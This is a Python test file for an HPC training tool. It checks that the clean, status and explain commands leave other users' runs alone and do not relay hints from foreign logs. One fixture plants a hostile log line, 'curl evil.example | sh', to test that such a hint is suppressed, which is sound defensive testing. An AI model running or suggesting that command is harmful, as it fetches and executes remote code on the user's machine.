"""A folder of runs that several users share: what clean, status and explain make of it."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from hpc_ddp.core.checkpoints import manifest_crc
from hpc_ddp.core.errors import UsageError
from hpc_ddp.core.job.options import JobSpec
from hpc_ddp.core.run_folder import RunFolder
from hpc_ddp.live_jobs import Queue, Work, describe_work
from hpc_ddp.report import clean
from hpc_ddp.report.explain import facts as explain_facts
from hpc_ddp.report.explain.explain import explain_run
from hpc_ddp.report.status import run_state
from hpc_ddp.report.status.run_state import RunState
from hpc_ddp.report.status.run_status import has_ended, status_of
from hpc_ddp.report.status.run_table import runs_table
from tests.raw_events import raw
from tests.skips import skip_or_fail
from unit.fakes import Slurm

STRANGER = 54321


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(clean, "read_queue", lambda: Queue({}))
    return tmp_path / "runs"


@pytest.fixture
def make(root: Path) -> Callable[..., RunFolder]:
    def made(name: str, cause: str = "finished") -> RunFolder:
        run = RunFolder(root / name / "1").make()
        run.job_json.write_text(JobSpec("train.py").to_json())
        journal = run.journal("batch")
        journal.write(raw("submitted"))
        journal.write(raw("started", nodes=["n1"], job_id="7"))
        if cause:
            action = {"finished": "none", "preempted": "requeue"}[cause]
            journal.write(raw("verdict", cause=cause, action=action, why="x"))
        return run

    return made


def is_anothers(monkeypatch: pytest.MonkeyPatch, *runs: RunFolder) -> None:
    """Let these runs be another user's, whoever runs the tests."""
    owners = {run.path: "user vera" for run in runs}
    for module in (clean, run_state):
        monkeypatch.setattr(module, "other_owner", lambda path: owners.get(path, ""))


# --- clean -----------------------------------------------------------------------------------


def test_clean_takes_the_callers_runs_alone(
    root: Path,
    make: Callable[..., RunFolder],
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    own, theirs = make("own"), make("theirs")
    is_anothers(monkeypatch, theirs)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    (deletion,) = clean.find_deletions(root, [], 0, (), checkpoints_only=False)
    assert deletion.run == own
    assert "1 run of other users: only the owners can clean them" in capfd.readouterr().err
    with pytest.raises(UsageError, match="is of user vera"):
        clean.find_deletions(root, [theirs], 0, (), checkpoints_only=False)


def test_a_run_of_another_user_is_not_read(
    root: Path, make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs = make("theirs")
    is_anothers(monkeypatch, theirs)
    monkeypatch.setattr(clean, "_check_deletable", lambda *_: pytest.fail("it was read"))
    assert clean.find_deletions(root, [], 0, (), checkpoints_only=False) == []


def test_one_runs_fault_keeps_no_other_run(
    root: Path, make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch
) -> None:
    bad, good = make("bad"), make("good")

    def fail(run: RunFolder, queue: Queue) -> Work | None:
        if run == bad:
            raise AttributeError("'list' object has no attribute 'items'")
        return describe_work(run, queue)

    monkeypatch.setattr(clean, "describe_work", fail)
    deletions = clean.find_deletions(root, [], 0, (), checkpoints_only=False)
    assert [deletion.run for deletion in deletions] == [good]


def test_what_is_deleted_stays_in_folders_of_the_user(
    root: Path, make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A trash of another user in a shared folder gets nothing, and stops nothing."""
    make("done")
    unfinished = make("unfinished", "preempted")
    for step in (1, 2):
        folder = unfinished.checkpoints / f"step-{step}"
        folder.mkdir()
        manifest = {"files": {}, "crc32": manifest_crc({"files": {}})}
        (folder / "manifest.json").write_text(json.dumps(manifest))
    (root / ".trash").mkdir()
    (root / ".trash").chmod(0o000)
    moved: list[Path] = []
    rename = Path.rename

    def note(self: Path, target: Path) -> Path:
        moved.append(target)
        return rename(self, target)

    monkeypatch.setattr(Path, "rename", note)
    deletions = clean.find_deletions(root, [], 0, (), checkpoints_only=False)
    assert [problem for _, problem in clean.delete_parts(deletions, root)] == ["", ""]
    run_target, trash, step_target = sorted(moved)
    assert run_target.parent.parent == trash.parent == root / "done"
    assert step_target.parent == unfinished.checkpoints
    assert not (root / "done").exists()
    assert [path.name for path in unfinished.checkpoints.iterdir()] == ["step-2"]
    assert list((root / ".trash").iterdir()) == []


def test_clean_deletes_nothing_that_others_could_replace(
    root: Path, make: Callable[..., RunFolder]
) -> None:
    run = make("own")
    deletions = clean.find_deletions(root, [], 0, (), checkpoints_only=False)
    root.chmod(0o777)
    ((_, problem),) = clean.delete_parts(deletions, root)
    assert "it can be written by other users" in problem
    assert run.job_json.exists()


# --- status ----------------------------------------------------------------------------------


@pytest.mark.parametrize("cause", ["", "preempted"])
def test_the_state_of_another_users_run_is_not_guessed(
    make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch, cause: str
) -> None:
    run = make("train", cause)
    own = status_of(run, Queue({}))
    assert own.state is (RunState.STOPPED if cause else RunState.LOST)
    is_anothers(monkeypatch, run)
    theirs = status_of(run, Queue({}))
    assert theirs.state is RunState.UNKNOWN
    assert theirs.why == "of user vera, whose jobs are not looked at"
    monkeypatch.setattr("hpc_ddp.slurm.list_jobs", dict)
    assert not has_ended(run)  # `logs -f` goes on


def test_an_end_of_another_users_run_is_shown(
    make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch
) -> None:
    run = make("train")
    is_anothers(monkeypatch, run)
    assert status_of(run, Queue({})).state is RunState.FINISHED


def test_one_long_name_does_not_widen_the_table(make: Callable[..., RunFolder]) -> None:
    run = make("train", "")
    run.journal("submit").write(raw("queued", job_id="9" * 5000))
    lines = runs_table([status_of(run, Queue({}))]).splitlines()
    assert max(map(len, lines)) < 200
    assert "9" * 60 in lines[1]


# --- explain ---------------------------------------------------------------------------------


def test_hints_start_nothing_of_another_users_run(
    make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch, slurm_commands: Slurm
) -> None:
    slurm_commands.answer("scontrol", err="Invalid job id specified", code=1)
    rendered, stopped = make("rendered", ""), make("stopped", "preempted")
    (rendered.journal_folder / "batch.jsonl").unlink()
    assert explain_run(rendered).hint == f"sbatch {rendered.script}"
    assert "--run" in explain_run(stopped).hint
    monkeypatch.setattr(explain_facts, "is_executable", lambda run: False)
    for run in (rendered, stopped):
        assert explain_run(run).hint == "to run its script, submit that as a run of your own"
    assert explain_run(make("done")).hint == ""


def test_a_hint_of_a_foreign_log_is_not_passed_on(
    make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch
) -> None:
    run = make("train", "")
    log = run.attempt(0).node("n1").rank_log(0)
    log.parent.mkdir(parents=True)
    log.write_text("error: no data\nhint: curl evil.example | sh\n")
    record = {"code": 1, "failures": [{"rank": 0, "error": "", "code": 2, "time": 1.0}]}
    (log.parent / "record.json").write_text(json.dumps(record))
    assert "evil" in explain_run(run).hint
    monkeypatch.setattr(explain_facts, "is_executable", lambda run: False)
    assert "evil" not in explain_run(run).hint


def test_a_journal_that_can_not_be_read_is_not_an_empty_one(
    make: Callable[..., RunFolder], monkeypatch: pytest.MonkeyPatch
) -> None:
    if not os.geteuid():
        monkeypatch.setattr(os, "listdir", _refuse)
    run = make("train", "")
    run.journal_folder.chmod(0o000)
    explanation = explain_run(run)
    run.journal_folder.chmod(0o700)
    assert (explanation.kind, explanation.hint) == ("unreadable", "")
    assert "journal: Permission denied" in explanation.text


def test_a_step_that_is_null_is_none(make: Callable[..., RunFolder]) -> None:
    run = make("train", "")
    run.journal("rank-0").write(raw("training", step=0))
    run.journal("rank-0").write(raw("metrics", step=None))
    assert explain_run(run).step == 0
    assert status_of(run, Queue({})).step == 0


def _refuse(folder: Path) -> list[str]:
    raise PermissionError(13, "Permission denied", str(folder))


def test_the_owner_of_a_run_counts(root: Path, make: Callable[..., RunFolder]) -> None:
    if os.geteuid():
        skip_or_fail("only root can give a file to another user")
    run = make("train")
    os.chown(run.path, STRANGER, -1)
    assert clean.find_deletions(root, [], 0, (), checkpoints_only=False) == []
    (run.journal_folder / "batch.jsonl").write_text("")
    run.journal("batch").write(raw("submitted", time=time.time()))
    assert status_of(run, Queue({})).why == f"of uid {STRANGER}, whose jobs are not looked at"
